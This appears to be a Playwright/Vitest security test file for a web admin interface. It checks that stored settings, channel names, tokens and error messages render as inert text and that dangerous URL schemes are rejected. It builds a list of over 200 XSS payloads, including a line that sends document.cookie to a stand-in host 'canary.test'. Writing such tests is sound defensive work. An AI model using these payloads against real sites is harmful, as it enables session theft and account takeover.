import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { addChannel } from '../helpers/seed.ts'
import { go, openStage, type Stage } from './stage.ts'

/** Part I of the trust reference: whatever stands in a setting, a name or a message, the browser runs none of it. */

const act = `window.hostile=1;fetch('https://canary.test/'+document.cookie)`
const quoted = act.replaceAll("'", '&#39;')
const tags = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'audio src=x',
  'details open',
  'input autofocus',
  'iframe',
  'marquee',
  'select autofocus',
]
const events = ['onerror', 'onload', 'ontoggle', 'onfocus', 'onstart', 'onmouseover', 'onanimationstart', 'onbeforetoggle']
const wholes = [
  `<script>${act}</script>`,
  `<ScRiPt>${act}</sCrIpT>`,
  `<script src="https://canary.test/a.js"></script>`,
  `<scr<script>ipt>${act}</scr</script>ipt>`,
  `"><script>${act}</script>`,
  `</title><script>${act}</script>`,
  `</textarea><script>${act}</script>`,
  `<svg><script>${act}</script></svg>`,
  `<svg><animate onbegin="${quoted}" attributeName=x dur=1s></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${quoted}</script>"></iframe></foreignObject></svg>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror="${quoted}">`,
  `<a href="javascript:${quoted}">a</a>`,
  `<a href=" java\tscript:${quoted}">a</a>`,
  `<a href="data:text/html,<script>${quoted}</script>">a</a>`,
  `<form action="javascript:${quoted}"><button>x</button></form>`,
  `<object data="https://canary.test/x"></object>`,
  `<embed src="https://canary.test/x">`,
  `<link rel=stylesheet href="https://canary.test/x.css">`,
  `<meta http-equiv=refresh content="0;url=https://canary.test/">`,
  `<base href="https://canary.test/">`,
  `<iframe src="javascript:${quoted}"></iframe>`,
  `<template><script>${act}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${quoted}>">`,
  `[link](javascript:${act})`,
  `![image](x "onerror=${quoted}")`,
  `<!--><img src=x onerror="${quoted}">-->`,
  `<xss id=x tabindex=1 onfocus="${quoted}"></xss>`,
  '{{constructor.constructor("window.hostile=1")()}}',
]
const payloads = [
  ...wholes,
  ...tags.flatMap((tag) => events.map((event) => `<${tag} ${event}="${quoted}">`)),
  ...tags.flatMap((tag) => events.map((event) => `<${tag}\n${event.toUpperCase()}=\`${quoted}\`/>`)),
  ...tags.flatMap((tag) => events.map((event) => `<b title='"'><${tag} x="'" ${event}='${act.replaceAll("'", '`')}'>`)),
]

let stage: Stage
beforeAll(async () => {
  stage = await openStage()
})
afterAll(() => stage.stop())

async function open(who: 'nobody' | 'root', language: 'zh' | 'en' = 'en') {
  const { page } = await stage.open(who, { language })
  const reached: string[] = []
  const dialogs: string[] = []
  await page.route('https://canary.test/**', (route) => {
    reached.push(route.request().url())
    return route.abort()
  })
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  const expectUnharmed = async () => {
    // What could act is given a moment of the page's own to do so.
    await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 50))))
    expect(await page.evaluate('window.hostile')).toBeUndefined()
    expect([reached, dialogs]).toEqual([[], []])
  }
  return { page, expectUnharmed }
}

/** What is shown may have neither heading nor paragraph. */
async function visit(page: Page, path: string): Promise<void> {
  await page.goto(path, { waitUntil: 'networkidle' })
  await page.locator('main').waitFor()
}

const save = (key: string, value: string) => stage.server.raw('PUT /api/option/', { key, value })

describe('hostile content', () => {
  it(`[T183] of ${payloads.length} kinds in pages, notice, footer and name runs nowhere`, async () => {
    expect(payloads.length).toBeGreaterThanOrEqual(200)
    const { page, expectUnharmed } = await open('nobody')
    const half = Math.ceil(payloads.length / 2)
    for (const separator of ['\n', '\n\n']) {
      await save('About', payloads.slice(0, half).join(separator))
      await save('HomePageContent', payloads.slice(half).join(separator))
      await save('Notice', payloads.slice(half).join(separator))
      await save('Footer', payloads.slice(0, half).join(separator))
      await save('SystemName', '<img src=x onerror=alert(1)>')
      for (const path of ['/', '/about', '/login']) {
        await visit(page, path)
        await expectUnharmed()
      }
    }
    // Markdown alone, with nothing that looks like HTML around it.
    await save('About', `# Title\n\n${wholes.map((text) => text.replaceAll('<', '&lt;')).join('\n\n')}`)
    await visit(page, '/about')
    await expectUnharmed()
    for (const key of ['About', 'HomePageContent', 'Notice', 'Footer']) await save(key, '')
    await save('SystemName', 'Sluice')
  }, 90_000)

  it('[T183] [T185] in names and messages is text', async () => {
    const name = '<img src=x onerror=alert(1)>'
    const channel = await addChannel(stage.server, { url: stage.upstream.url, models: 'm<b>', name, tag: name })
    await stage.server.call('POST /api/token/', { name: '<svg onload=alert(1)>', unlimited_quota: true })
    await save('UserUsableGroups', JSON.stringify({ default: name }))
    const { page, expectUnharmed } = await open('root')
    for (const path of ['/channel', `/channel/edit/${channel}`, '/token', '/log', '/setting?tab=audit', '/user', '/playground']) {
      await go(page, path)
      await expectUnharmed()
    }
    await go(page, '/channel')
    await page.getByText(name).first().waitFor()
    // The message of a refusal is shown as it is.
    await page.route(/\/api\/channel\/?(search)?\?/, (route) =>
      route.fulfill({ json: { success: false, message: `${name}<script>window.hostile=1</script>`, code: 'x' } }),
    )
    await page.reload()
    await page.getByText(`${name}<script>`).first().waitFor()
    await expectUnharmed()
  }, 90_000)

  it('[T187] of addresses that would run is refused when it is saved', async () => {
    for (const value of [`javascript:${act}`, 'data:text/html,x', ' javascript:x', 'vbscript:x', 'file:///etc/passwd']) {
      for (const key of [
        'Logo',
        'TopUpLink',
        'ChatLink',
        'ChatLink2',
        'WeChatAccountQRCodeImageURL',
        'ServerAddress',
        'ReleaseFeedUrl',
      ])
        expect(await (await save(key, value)).json(), `${key} ${value}`).toMatchObject({ success: false })
      expect(await (await save('Chats', JSON.stringify([{ x: value }]))).json(), value).toMatchObject({ success: false })
    }
  })

  it('[T188] of a page elsewhere stands in a frame without any right here, and the policy lists its origin alone', async () => {
    const { page, expectUnharmed } = await open('nobody')
    await page.route('https://pages.test/**', (route) =>
      route.fulfill({
        contentType: 'text/html',
        body: '<h1>Elsewhere</h1><script>try { parent.hostile = 1 } catch {} try { top.location = "https://canary.test/" } catch {}</script>',
      }),
    )
    await save('About', 'https://pages.test/about')
    const [response] = await Promise.all([page.waitForResponse('**/about'), page.goto('/about')])
    expect(response.headers()['content-security-policy']).toMatch(
      /frame-src https:\/\/pages\.test[ ;]|frame-src [^;]*https:\/\/pages\.test/,
    )
    await page.frameLocator('iframe').getByRole('heading', { name: 'Elsewhere' }).waitFor()
    expect(await page.locator('iframe').getAttribute('sandbox')).not.toMatch(/allow-same-origin|allow-top-navigation/)
    await expectUnharmed()
    expect(page.url()).toContain('/about')
    await save('About', '')
  })
})
